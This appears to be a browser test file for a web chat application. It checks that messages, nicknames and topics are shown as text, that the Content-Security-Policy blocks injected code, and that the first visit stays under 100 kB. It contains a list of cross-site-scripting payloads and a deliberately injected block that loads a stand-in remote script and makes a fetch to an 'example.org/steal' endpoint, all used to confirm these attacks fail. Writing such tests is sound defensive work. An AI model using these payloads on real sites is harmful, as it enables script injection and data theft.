/** Tests that messages cannot run scripts on the page, and that its first visit is small. */
/// <reference lib="dom" />
import { assert, assertEquals } from "@std/assert";
import { assets } from "../../src/web/assets.ts";
import { missing, within, type World } from "./browser.ts";
import { test } from "./forms.ts";
import { Client, source } from "./harness.ts";

/** Registers a test with a browser. */
function browse(name: string, body: (world: World) => Promise<void>): void {
  test(name, (form) => within(form, body), missing, [source]);
}

/** Messages that would do harm if they were interpreted as HTML. */
const HARM = [
  "<script>document.title = 'hacked'</script>",
  "<img src=x onerror=document.title='hacked'>",
  "<style>*{display:none!important}</style>",
  "<svg/onload=document.title='hacked'>",
  "&lt;b&gt; &#60;i> </div></body>",
  "javascript:document.title='hacked'",
];

browse("page: scripts, images and styles in messages, names and topics are shown as text", async (world) => {
  const nick = "^[{<]}".replace("<", "\\") + "`_|"; // all special characters that the server allows: no < > & \" '
  const room = "#<img/src=x/onerror=document.title='hacked'>".slice(0, 49);
  const alice = await world.guest("alice");
  const requests: string[] = [];
  alice.page.on("request", (request) => requests.push(request.url()));
  using bob = await Client.join(world.server.port);
  await bob.send("/nick <script>alert(1)</script>"); // is rejected
  await bob.send(`/nick ${nick}`);
  await alice.sees(`guest1 is ${nick} now`);
  for (const text of HARM) {
    await bob.send(text, `/me ${text}`, `/msg alice ${text}`, `/topic ${text}`);
    await alice.sees(text);
    await alice.page.locator("header p").getByText(text, { exact: true }).waitFor();
  }
  await alice.people.getByRole("button", { name: nick }).waitFor();
  await alice.tab(nick).click();
  for (const text of HARM) await alice.sees(text);
  await bob.send(`/join ${room}`, "/topic <i>");
  await alice.join(room);
  await alice.tab(room).waitFor();
  await bob.send("I am here", `/quit ${HARM[1]}`);
  await alice.sees("I am here");
  await alice.sees(`${nick} left (${HARM[1]})`);
  await alice.tab("#lobby").click();

  const made = await alice.page.evaluate(() => {
    const log = document.querySelector("[role=log]:not([hidden])")!;
    const strange = document.querySelectorAll(
      "script:not([src]), style, [role=log] img, [role=log] svg, [role=log] i, [style], [onerror], [onload], a[href^='javascript:' i]",
    );
    return { strange: [...strange].map(({ outerHTML }) => outerHTML), visible: log.checkVisibility() };
  });
  assertEquals(made, { strange: [], visible: true });
  assertEquals(await alice.page.title().then((title) => title.includes("hacked")), false);
  // The page loads some of its own files later, and the icon with each new title.
  const own = new Set(assets.map(({ path }) => new URL(path, world.url).href));
  assertEquals(requests.filter((url) => !own.has(url)), []);
});

browse("page: the Content-Security-Policy blocks scripts, styles and requests in injected HTML", async (world) => {
  const alice = await world.guest("alice");
  alice.foreseen.push(/Content Security Policy/, /ERR_BLOCKED_BY_CSP/, /Failed to load resource/);
  // A deliberate hole: a message is inserted as HTML.
  const { violated, effects } = await alice.page.evaluate(async () => {
    const violated = new Set<string>();
    const all = Promise.withResolvers<void>();
    const wanted = 8;
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      violated.add(`${effectiveDirective} ${blockedURI}`);
      if (violated.size >= wanted) all.resolve();
    });
    const hole = document.querySelector("[role=log]")!.appendChild(document.createElement("div"));
    hole.innerHTML = `<p id="victim" style="position: fixed">styled</p><style>#victim { opacity: 0.25 }</style>
      <img src="data:," onerror="document.title = 'hacked'"><img src="https://example.org/spy.png">
      <iframe src="https://example.org/"></iframe>`;
    const script = document.createElement("script");
    script.textContent = "document.title = 'hacked'";
    hole.append(script);
    const foreign = document.createElement("script");
    foreign.src = "https://example.org/harm.js";
    hole.append(foreign);
    await fetch("https://example.org/steal").catch(() => {});
    await Promise.race([all.promise, new Promise((resolve) => setTimeout(resolve, 20_000))]);
    const { position, opacity } = getComputedStyle(document.getElementById("victim")!);
    const effects = { hacked: document.title.includes("hacked"), position, opacity };
    hole.remove();
    return { violated: [...violated].sort(), effects };
  });
  assertEquals(violated, [
    "connect-src https://example.org/steal",
    "frame-src https://example.org",
    "img-src https://example.org/spy.png",
    "script-src-attr inline",
    "script-src-elem https://example.org/harm.js",
    "script-src-elem inline",
    "style-src-attr inline",
    "style-src-elem inline",
  ]);
  assertEquals(effects, { hacked: false, position: "static", opacity: "1" });
});

browse("page: the first visit transfers less than 100 kB", async (world) => {
  const visitor = await world.visitor();
  const responses: Promise<{ url: string; head: number; body: number }>[] = [];
  visitor.page.on("requestfinished", (request) => {
    responses.push(
      request.sizes().then(({ responseHeadersSize, responseBodySize }) => ({
        url: request.url(),
        head: responseHeadersSize,
        body: responseBodySize,
      })),
    );
  });
  const session = await visitor.page.context().newCDPSession(visitor.page);
  await session.send("Network.clearBrowserCache");
  const began = performance.now();
  await visitor.page.goto("about:blank");
  responses.length = 0;
  await visitor.page.goto(world.url, { waitUntil: "networkidle" });
  await visitor.until(visitor.name, (element) => element === document.activeElement, true);
  const elapsed = performance.now() - began;
  const { usable } = await visitor.page.evaluate(() => {
    const [navigation] = performance.getEntriesByType("navigation") as PerformanceNavigationTiming[];
    return { usable: navigation!.domContentLoadedEventEnd }; // all modules have run, and the dialog is open
  });
  const all = await Promise.all(responses);
  const body = all.reduce((sum, each) => sum + each.body, 0);
  const head = all.reduce((sum, each) => sum + each.head, 0);
  const bytes = body + head;
  console.log(
    `first visit: ${all.length} requests, ${bytes} bytes over the wire (${body} and headers), usable after ${
      usable.toFixed(0)
    } ms ` +
      `(network idle after ${elapsed.toFixed(0)} ms)`,
  );
  assert(all.length >= 5 && all.every(({ url }) => url.startsWith(world.url)), all.map(({ url }) => url).join("\n"));
  assert(bytes < 100_000, `${bytes} bytes`);
});
